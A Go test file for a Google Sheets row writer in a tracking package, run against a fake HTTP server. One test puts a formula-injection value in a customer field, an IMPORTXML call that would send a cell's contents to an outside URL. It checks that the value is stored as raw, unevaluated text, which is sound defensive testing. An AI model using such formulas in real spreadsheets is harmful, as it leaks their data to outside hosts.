package tracking

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"
)

type sheetsCall struct {
	method string
	path   string
	query  string
	body   map[string]any
}

func fakeSheetsAPI(t *testing.T) (*GoogleSheets, *[]sheetsCall) {
	t.Helper()
	var (
		mu    sync.Mutex
		calls []sheetsCall
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		c := sheetsCall{method: r.Method, path: r.URL.Path, query: r.URL.RawQuery}
		_ = json.Unmarshal(raw, &c.body)
		mu.Lock()
		calls = append(calls, c)
		mu.Unlock()

		w.Header().Set("Content-Type", "application/json")
		if r.Method == http.MethodGet {
			_, _ = io.WriteString(w, `{"sheets":[{"properties":{"sheetId":0,"title":"Clocks"}},{"properties":{"sheetId":77,"title":"CTClocks"}}]}`)
			return
		}
		_, _ = io.WriteString(w, `{}`)
	}))
	t.Cleanup(srv.Close)

	g, err := NewGoogleSheets(context.Background(), "", option.WithEndpoint(srv.URL+"/"), option.WithoutAuthentication(), option.WithHTTPClient(srv.Client()))
	require.NoError(t, err)
	return g, &calls
}

func TestGoogleSheetsInsertAfterHeader(t *testing.T) {
	g, calls := fakeSheetsAPI(t)

	require.NoError(t, g.InsertRow(context.Background(), "sheet-a", "Clocks", []any{"1010", "Wade"}))
	require.NoError(t, g.InsertRow(context.Background(), "sheet-a", "Clocks", []any{"1011", "Wade"}))

	// the tab lookup is cached
	require.Len(t, *calls, 5)
	get, batch, update := (*calls)[0], (*calls)[1], (*calls)[2]

	assert.Equal(t, http.MethodGet, get.method)
	assert.True(t, strings.HasSuffix(batch.path, "/spreadsheets/sheet-a:batchUpdate"), batch.path)

	reqs := batch.body["requests"].([]any)
	rng := reqs[0].(map[string]any)["insertDimension"].(map[string]any)["range"].(map[string]any)
	assert.Equal(t, float64(0), rng["sheetId"])
	assert.Equal(t, "ROWS", rng["dimension"])
	assert.Equal(t, float64(1), rng["startIndex"])
	assert.Equal(t, float64(2), rng["endIndex"])

	assert.Equal(t, http.MethodPut, update.method)
	assert.Contains(t, update.path, "/values/'Clocks'!A2")
	assert.Contains(t, update.query, "valueInputOption=RAW")
	assert.Equal(t, []any{[]any{"1010", "Wade"}}, update.body["values"])
}

func TestGoogleSheetsAppend(t *testing.T) {
	g, calls := fakeSheetsAPI(t)

	require.NoError(t, g.AppendRow(context.Background(), "sheet-b", "CTClocks", []any{"42"}))
	require.Len(t, *calls, 1)
	c := (*calls)[0]
	assert.Equal(t, http.MethodPost, c.method)
	assert.Contains(t, c.path, ":append")
	assert.Contains(t, c.query, "insertDataOption=INSERT_ROWS")
	assert.Contains(t, c.query, "valueInputOption=RAW")
}

func TestWriterStoresFormulaTextVerbatim(t *testing.T) {
	g, calls := fakeSheetsAPI(t)
	w := NewWriter(g, map[string]string{"cleartime": "sheet-b"}, time.Second, nil)

	customer := `=IMPORTXML("https://example.com/?x="&A1,"//a")`
	require.NoError(t, w.AppendRow(context.Background(), cleartimeFamily(), Row{
		Serial:      "42",
		SKU:         "CT4024M",
		OrderNumber: "#1001",
		Customer:    customer,
	}))

	require.Len(t, *calls, 1)
	c := (*calls)[0]
	assert.Contains(t, c.query, "valueInputOption=RAW")
	assert.NotContains(t, c.query, "USER_ENTERED")
	row := c.body["values"].([]any)[0].([]any)
	assert.Equal(t, customer, row[4])
	assert.Equal(t, "42", row[0])
	assert.Equal(t, "#1001", row[3])
}

func TestGoogleSheetsUnknownTab(t *testing.T) {
	g, _ := fakeSheetsAPI(t)
	err := g.InsertRow(context.Background(), "sheet-a", "Missing", []any{"1"})
	require.ErrorContains(t, err, `tab "Missing" not found`)
}
